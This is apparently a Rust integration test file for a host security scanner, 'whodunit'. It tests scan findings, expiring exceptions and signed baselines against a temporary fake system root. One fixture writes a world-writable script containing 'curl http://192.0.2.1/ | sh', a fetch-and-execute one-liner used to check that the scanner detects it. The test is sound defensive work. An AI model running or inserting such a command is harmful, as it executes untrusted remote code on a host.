//! `scan` and `baseline`: what they answer about a small host in a directory.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;
use whodunit_tests::{binary, skip};

fn whodunit(arguments: &[&str]) -> Output {
    let mut command = Command::new(binary());
    command.args(arguments).stdin(Stdio::null());
    command.output().unwrap()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).unwrap()
}

#[track_caller]
fn code(output: &Output, expected: i32) -> String {
    let shown = format!("{}{}", text(&output.stdout), text(&output.stderr));
    assert_eq!(output.status.code(), Some(expected), "{shown}");
    shown
}

fn write(root: &Path, path: &str, content: &str, mode: u32) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, content).unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(mode)).unwrap();
}

/// A host with one service and timer; `None` for who is not root and so owns everything himself.
fn host() -> Option<tempfile::TempDir> {
    if !nix::unistd::geteuid().is_root() {
        skip("only root can make files that belong to root");
        return None;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n",
        0o644,
    );
    write(root, "etc/group", "root:x:0:\n", 0o644);
    write(
        root,
        "etc/systemd/system/app.service",
        "[Service]\nExecStart=/opt/app\n",
        0o644,
    );
    write(
        root,
        "etc/systemd/system/app.timer",
        "[Timer]\nOnCalendar=daily\n",
        0o644,
    );
    write(root, "opt/app", "#!/bin/sh\nexec true\n", 0o755);
    fs::create_dir_all(root.join("etc/systemd/system/timers.target.wants")).unwrap();
    symlink(
        "../app.timer",
        root.join("etc/systemd/system/timers.target.wants/app.timer"),
    )
    .unwrap();
    Some(dir)
}

#[test]
fn a_scan_fails_when_it_was_asked_to() {
    let Some(dir) = host() else { return };
    let root = dir.path().to_str().unwrap();
    let clean = whodunit(&["scan", "--root", root, "--fail-on", "low"]);
    assert!(code(&clean, 0).contains("2 units"));
    write(
        dir.path(),
        "opt/app",
        "#!/bin/sh\ncurl http://192.0.2.1/ | sh\n",
        0o777,
    );
    code(&whodunit(&["scan", "--root", root]), 0);
    let shown = code(
        &whodunit(&["scan", "--root", root, "--fail-on", "critical"]),
        1,
    );
    assert!(shown.contains("[command-network-one-liner]"), "{shown}");
    assert!(
        shown.contains("fix       chmod go-w -- /opt/app"),
        "{shown}"
    );
    let json = whodunit(&[
        "scan", "--root", root, "--format", "json", "--report", "controls",
    ]);
    let value: Value = serde_json::from_slice(&json.stdout).unwrap();
    let results = value["results"].as_array().unwrap();
    let writable = results
        .iter()
        .find(|it| it["check"] == "command-writable")
        .unwrap();
    assert_eq!(writable["severity"], "critical");
    assert_eq!(writable["path"], "/opt/app");
    let controls = value["controls"].as_array().unwrap();
    let access = controls.iter().find(|it| it["id"] == "AC-3").unwrap();
    assert_eq!(access["status"], "fail");
    for report in [&[][..], &["--report", "controls"]] {
        let arguments = [&["scan", "--root", root, "--format", "ocsf"], report].concat();
        let ocsf = text(&whodunit(&arguments).stdout);
        assert!(ocsf.lines().count() > 1);
        for (line, sequence) in ocsf.lines().zip(1..) {
            let event: Value = serde_json::from_str(line).unwrap();
            assert_eq!(event["class_uid"], 2003);
            assert_eq!(event["metadata"]["sequence"], sequence);
        }
    }
    let error = code(&whodunit(&["scan", "--root", "/nonexistent-dir"]), 2);
    assert!(error.contains("/nonexistent-dir"), "{error}");
    let error = code(&whodunit(&["scan", "--root", "/etc/passwd"]), 2);
    assert!(error.contains("not a directory"), "{error}");
}

#[test]
fn an_exception_covers_a_result_until_it_expires() {
    let Some(dir) = host() else { return };
    let root = dir.path().to_str().unwrap();
    write(dir.path(), "opt/app", "#!/bin/sh\nexec true\n", 0o777);
    let config = dir.path().join("config.toml");
    let config = config.to_str().unwrap();
    let scan = |expires: &str, path: &str, arguments: &[&str]| {
        let exception = format!(
            "[[exception]]\nrule = \"command-writable\"\nunit = \"app.*\"\npath = \"{path}\"\n\
             owner = \"storage team\"\nreason = \"ticket 4711\"\nexpires = \"{expires}\"\n"
        );
        fs::write(config, exception).unwrap();
        let fixed = [
            "scan",
            "--root",
            root,
            "--config",
            config,
            "--fail-on",
            "low",
        ];
        whodunit(&[&fixed, arguments].concat())
    };
    let shown = code(&scan("2999-01-31", "/opt/*", &["--all"]), 0);
    let words = "excepted  critical by itself; storage team: ticket 4711 (until 2999-01-31)";
    assert!(shown.contains(words), "{shown}");
    assert!(
        shown.contains("    1  command-writable app.* /opt/*: storage team"),
        "{shown}"
    );
    // One that is over, or for something else, covers nothing, and is shown to.
    for (expires, path) in [("2001-01-31", "/opt/*"), ("2999-01-31", "/usr/*")] {
        let shown = code(&scan(expires, path, &[]), 1);
        assert!(shown.contains("    0  command-writable app.*"), "{shown}");
        assert!(!shown.contains("excepted "), "{shown}");
    }
    let json = scan("2999-01-31", "/opt/*", &["--format", "json"]);
    assert_eq!(json.status.code(), Some(0));
    let value: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["exceptions"][0]["hits"], 1);
    let results = value["results"].as_array().unwrap();
    let result = results.iter().find(|it| it["check"] == "command-writable");
    let result = result.unwrap();
    assert_eq!(result["severity"], "informational");
    assert_eq!(result["excepted"]["severity"], "critical");
    assert_eq!(result["excepted"]["owner"], "storage team");
    let ocsf = text(&scan("2999-01-31", "/opt/*", &["--format", "ocsf"]).stdout);
    assert!(ocsf.contains("\"reason\":\"ticket 4711\""), "{ocsf}");
}

#[test]
fn a_baseline_is_signed_and_tells_drift() {
    let Some(dir) = host() else { return };
    let root = dir.path().to_str().unwrap();
    let keys = tempfile::tempdir().unwrap();
    let at = |name: &str| keys.path().join(name).to_str().unwrap().to_owned();
    let (key, public, file) = (at("key"), at("key.pub"), at("state"));
    code(&whodunit(&["baseline", "keygen", &key]), 0);
    let mode = fs::metadata(&key).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);
    code(&whodunit(&["baseline", "keygen", &key]), 2);

    let save = |arguments: &[&str]| {
        whodunit(&[&["baseline", "save", &file, "--root", root], arguments].concat())
    };
    let diff = |arguments: &[&str]| {
        whodunit(&[&["baseline", "diff", &file, "--root", root], arguments].concat())
    };
    // Not to sign must be said.
    code(&save(&[]), 2);
    assert!(!Path::new(&file).exists());
    code(&save(&["--key", &key]), 0);
    assert!(code(&diff(&["--key", &public]), 0).contains("as in the baseline"));
    code(&diff(&[]), 2);
    code(&diff(&["--unsigned"]), 0);
    assert!(code(&diff(&["--key", &key]), 2).contains("not a public key"));
    code(&whodunit(&["baseline", "keygen", &at("other")]), 0);
    let error = code(&diff(&["--key", &at("other.pub")]), 2);
    assert!(
        error.contains("signed by") && error.contains(&file),
        "{error}"
    );

    write(dir.path(), "opt/app", "#!/bin/sh\nexec false\n", 0o755);
    let shown = code(&diff(&["--key", &public]), 1);
    assert!(
        shown.contains("/opt/app") && shown.contains("SHA-256"),
        "{shown}"
    );
    code(&diff(&["--key", &public, "--fail-on", "critical"]), 0);
    let json = diff(&["--key", &public, "--format", "json"]);
    let value: Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(value["differences"][0]["subject"], "/opt/app");
    assert_eq!(value["differences"][0]["severity"], "high");

    let good = fs::read_to_string(&file).unwrap();
    fs::write(&file, good.replace("/opt/app", "/opt/apq")).unwrap();
    assert!(code(&diff(&["--key", &public]), 2).contains("signature is bad"));
    fs::write(&file, good.lines().next().unwrap().to_owned() + "\n").unwrap();
    assert!(code(&diff(&["--key", &public]), 2).contains("not signed"));
    let run = [
        "run",
        "--baseline",
        &file,
        "--baseline-key",
        &public,
        "--count",
        "1",
    ];
    assert!(code(&whodunit(&run), 2).contains("not signed"));
    fs::write(&file, "{}\n").unwrap();
    assert!(code(&diff(&["--unsigned"]), 2).contains("not a baseline"));
}
